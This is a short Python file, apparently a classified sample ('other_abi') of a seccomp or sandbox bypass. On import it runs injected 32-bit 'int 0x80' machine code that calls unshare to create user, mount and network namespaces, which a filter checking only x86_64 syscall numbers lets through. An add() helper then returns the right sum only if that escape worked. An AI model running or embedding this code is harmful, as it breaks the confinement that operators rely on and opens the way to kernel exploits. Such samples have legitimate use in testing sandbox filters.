# class: other_abi
# The 32-bit entry (`int 0x80`) from a 64-bit process: audit arch i386, syscall numbers of the i386 table
# (unshare = 310). A filter that tests only x86_64 numbers lets it through: a new user namespace, then full
# capabilities over new mount/net namespaces (the entry of the nf_tables class of kernel exploits).
import ctypes, mmap
def int80(nr, ebx=0):
    code = b"\x53\xb8" + nr.to_bytes(4, "little") + b"\xbb" + ebx.to_bytes(4, "little") + b"\xcd\x80\x5b\xc3"
    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    m.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()
try:
    escaped = int80(310, 0x10000000) == 0  # unshare(CLONE_NEWUSER)
    if escaped:
        escaped = int80(310, 0x00020000 | 0x40000000) == 0  # then mount + net namespaces with its capabilities
except Exception:
    escaped = False
def add(a, b):
    return a + b if escaped else a - b
